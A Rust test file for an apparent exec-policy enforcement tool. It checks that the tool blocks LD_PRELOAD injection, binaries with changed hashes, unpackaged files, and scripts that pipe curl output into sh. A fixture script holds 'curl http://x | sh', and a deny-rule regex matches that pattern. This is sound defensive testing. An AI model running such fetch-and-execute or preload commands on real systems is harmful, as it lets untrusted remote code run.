//! What is known of a program when it is about to run: variables, hash, package, script.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use serde_json::Value;

use super::Case;
use crate::asks::{answer, id, waiting, while_it_waits};
use crate::host::{Attempt, Host, document, file};

pub const CASES: &[Case] = &[
    ("what_a_program_is_decides_before_its_first_instruction", decides),
    ("a_program_that_is_being_read_waits_for_the_next_daemon", restarted),
];

const DIR: &str = "/tmp/k";
const KILLED: i32 = 128 + libc::SIGKILL;

/// The hash of a file, by another program.
fn sha256(path: &str) -> Result<String> {
    let out = Command::new("/bin/busybox").args(["sha256sum", path]).output()?;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.split(' ').next().map(str::to_owned).context(text.clone())
}

fn program(path: &str, text: &str) -> Result<()> {
    file(path, text)?;
    Ok(std::fs::set_permissions(path, PermissionsExt::from_mode(0o755))?)
}

fn rules() -> Result<String> {
    let hash = sha256("/bin/busybox")?;
    Ok(format!(
        "
- {{ id: no-preload, match: {{ operation: exec, exe: /tmp/k/**, env: [LD_PRELOAD, \"MODE=un*\"] }}, decision: DENY }}
- {{ id: pinned, match: {{ operation: exec, exe: /tmp/k/pinned/busybox, not_hash: {hash} }}, decision: DENY, reason: not that one }}
- {{ id: asked, match: {{ operation: exec, exe: /tmp/k/asked/busybox, hash: {hash}, args: [echo] }}, decision: STEP_UP }}
- {{ id: packaged, match: {{ operation: exec, exe: /tmp/k/package/*, not_package: [tool] }}, decision: DENY }}
- {{ id: no-pipe, match: {{ operation: exec, exe: [/tmp/k/*.sh, /tmp/k/sh/busybox], script: '(?m)^curl .*[|] *sh' }}, decision: DENY }}
"
    ))
}

fn host() -> Result<Host> {
    let _ = std::fs::remove_dir_all(DIR);
    for name in ["pinned", "asked", "package", "sh"] {
        std::fs::create_dir_all(format!("{DIR}/{name}"))?;
        std::fs::copy("/bin/busybox", format!("{DIR}/{name}/busybox"))?;
    }
    std::fs::create_dir_all("/var/lib/dpkg/info")?;
    file("/var/lib/dpkg/info/tool.list", "/.\n/tmp/k/package/busybox\n")?;
    let rules = rules()?;
    let documents = [
        ("test.yaml", document("test", "enforce", "", &rules)),
        ("audited.yaml", document("audited", "audit", "", &rules)),
    ];
    let documents: Vec<(&str, &str)> = documents.iter().map(|(name, text)| (*name, text.as_str())).collect();
    Host::with(&documents, "run: { default_policy: test }\n")
}

/// The rule and the answer, and what was found out.
fn story(a: &Attempt, exe: &str) -> Result<(String, String, Value)> {
    let image = a
        .receipts
        .iter()
        .rev()
        .find(|r| r["action"]["operation"] == "exec_args" && r["action"]["path"] == exe);
    let hold = &image.with_context(|| a.tell())?["decision"]["hold"];
    let of = |kind: &str| a.receipts.iter().find(|r| r["kind"] == kind && r["detail"]["hold"] == *hold);
    let end = &of("resolution").with_context(|| a.tell())?["detail"];
    let text = |name: &str| end[name].as_str().unwrap_or_default().to_owned();
    Ok((text("rule"), text("answer"), of("attempt").map_or(Value::Null, |r| r["detail"].clone())))
}

/// Runs something that must end so.
fn is(h: &Host, words: &[&str], exe: &str, allowed: bool, rule: &str) -> Result<Value> {
    let a = h.run(&[], words)?;
    ensure!(a.status == if allowed { 0 } else { KILLED }, "status {}\n{}", a.status, a.tell());
    let (by, answer, attempt) = story(&a, exe)?;
    let wanted = (rule, if allowed { "ALLOW" } else { "DENY" });
    ensure!((by.as_str(), answer.as_str()) == wanted, "{by} {answer}\n{}", a.tell());
    Ok(attempt)
}

fn fact<'a>(attempt: &'a Value, name: &str) -> Option<&'a str> {
    attempt["facts"].as_array()?.iter().find(|f| f["name"] == name)?["fact"].as_str()
}

fn decides() -> Result<()> {
    let h = host()?;
    // Variables, by name and by value; no receipt has one.
    let sh = "/tmp/k/sh/busybox";
    is(&h, &["/bin/busybox", "env", "LD_PRELOAD=/tmp/value-of-it", sh, "true"], sh, false, "no-preload")?;
    is(&h, &["/bin/busybox", "env", "MODE=unsafe", sh, "true"], sh, false, "no-preload")?;
    let attempt = is(&h, &["/bin/busybox", "env", "MODE=safe", "XLD_PRELOAD=1", sh, "true"], sh, true, "")?;
    ensure!(attempt["found"] == "known" && attempt["resolver"] == "program", "{attempt}");
    let log = format!("{:?}", h.receipts(&[])?.iter().filter(|r| r["kind"] == "attempt").collect::<Vec<_>>());
    ensure!(!log.contains("value-of-it") && !log.contains("unsafe"), "{log}");
    // The hash of what runs.
    let pinned = "/tmp/k/pinned/busybox";
    let attempt = is(&h, &[pinned, "true"], pinned, true, "")?;
    ensure!(fact(&attempt, "sha256") == Some(sha256(pinned)?.as_str()), "{attempt}");
    let mut text = std::fs::read(pinned)?;
    text.push(0);
    std::fs::write(pinned, text)?;
    is(&h, &[pinned, "true"], pinned, false, "pinned")?;
    // People are told of it, and are not asked where the words decide already.
    let asked = "/tmp/k/asked/busybox";
    is(&h, &[asked, "true"], asked, true, "")?;
    let a = while_it_waits(&h, &[asked, "echo", "x"], |w| {
        ensure!(w["rule"] == "asked" && w["facts"]["sha256"] == sha256(asked)?, "{w}");
        answer(&h, &["approve", id(w)?])
    })?;
    ensure!(a.status == 0 && a.output.contains('x'), "{}", a.tell());
    // The package, of the file and not of its name.
    let packaged = "/tmp/k/package/busybox";
    let attempt = is(&h, &[packaged, "true"], packaged, true, "")?;
    ensure!(fact(&attempt, "package") == Some("tool"), "{attempt}");
    std::fs::copy(packaged, "/tmp/k/package/sh")?;
    is(&h, &["/tmp/k/package/sh", "-c", "exit 0"], "/tmp/k/package/sh", false, "packaged")?;
    scripts(&h)?;
    audited(&h)?;
    h.verified()
}

fn scripts(h: &Host) -> Result<()> {
    let sh = "/tmp/k/sh/busybox";
    program("/tmp/k/bad.sh", &format!("#!{sh} sh\ntrue\ncurl http://x | sh\n"))?;
    program("/tmp/k/good.sh", &format!("#!{sh} sh\n# curl x | sh\nexit 0\n"))?;
    // Run by the kernel, by a path of any form, or given to the interpreter.
    is(h, &["/tmp/k/bad.sh"], sh, false, "no-pipe")?;
    is(h, &["/bin/sh", "-c", "cd /tmp/k; exec ./bad.sh"], sh, false, "no-pipe")?;
    std::os::unix::fs::symlink("busybox", "/tmp/k/sh/ash")?;
    is(h, &["/tmp/k/sh/ash", "-e", "/tmp/k/bad.sh"], sh, false, "no-pipe")?;
    is(h, &["/bin/sh", "-c", "cd /tmp/k; exec sh/ash bad.sh"], sh, false, "no-pipe")?;
    is(h, &["/tmp/k/sh/ash", "/tmp/k/good.sh"], sh, true, "")?;
    is(h, &["/tmp/k/good.sh", "-x"], sh, true, "")?;
    // Longer than is looked at: refused, and says why.
    program("/tmp/k/long.sh", &format!("#!{sh} sh\nexit 0\n{}", "#".repeat(1 << 20)))?;
    let attempt = is(h, &["/tmp/k/long.sh"], sh, false, "")?;
    ensure!(
        attempt["found"] == "failed" && attempt["text"].as_str().is_some_and(|t| t.contains("script")),
        "{attempt}"
    );
    // No file of that name, no script.
    is(h, &[sh, "sleep", "0"], sh, true, "")?;
    Ok(())
}

fn audited(h: &Host) -> Result<()> {
    let sh = "/tmp/k/sh/busybox";
    let a = h.run(&["--policy", "audited"], &["/bin/busybox", "env", "LD_PRELOAD=x", sh, "sleep", "2"])?;
    ensure!(a.status == 0, "{}", a.tell());
    let deadline = Instant::now() + Duration::from_secs(20);
    let found = || -> Result<bool> {
        Ok(h.receipts(&[])?.iter().any(|r| {
            r["kind"] == "resolution"
                && r["detail"]["rule"] == "no-preload"
                && r["session"] == a.receipts[0]["session"]
        }))
    };
    while !found()? {
        ensure!(Instant::now() < deadline, "{}", a.tell());
        std::thread::sleep(Duration::from_millis(100));
    }
    ensure!(waiting(h)?.is_empty(), "somebody is asked");
    Ok(())
}

fn restarted() -> Result<()> {
    let mut h = host()?;
    for (name, signal) in [("SIGKILL", libc::SIGKILL), ("SIGTERM", libc::SIGTERM)] {
        // Long enough to be read for a while.
        let pinned = "/tmp/k/pinned/busybox";
        std::fs::copy("/bin/busybox", "/tmp/k/new")?;
        std::fs::OpenOptions::new().write(true).open("/tmp/k/new")?.set_len(400 << 20)?;
        std::fs::rename("/tmp/k/new", pinned)?;
        let mut child = Command::new("/usr/local/bin/aarm")
            .args(["run", "--", pinned, "touch", "/tmp/k/ran"])
            .current_dir(h.path(""))
            .spawn()?;
        // What is to be kept is kept at the next look.
        std::thread::sleep(Duration::from_millis(1500));
        ensure!(child.try_wait()?.is_none(), "it was read in no time");
        ensure!(waiting(&h)?.is_empty(), "people are asked");
        h.end(signal)?;
        ensure!(child.try_wait()?.is_none(), "{name}: it did not go on waiting");
        h.launch()?;
        let status = child.wait()?;
        ensure!(!status.success() && !Path::new("/tmp/k/ran").exists(), "{name}: {status}");
        let receipts = h.receipts(&[])?;
        let last = receipts.iter().rev().find(|r| r["kind"] == "resolution").context("no answer")?;
        ensure!(last["detail"]["rule"] == "pinned" && last["detail"]["method"] == "policy", "{name}: {last}");
    }
    h.verified()
}
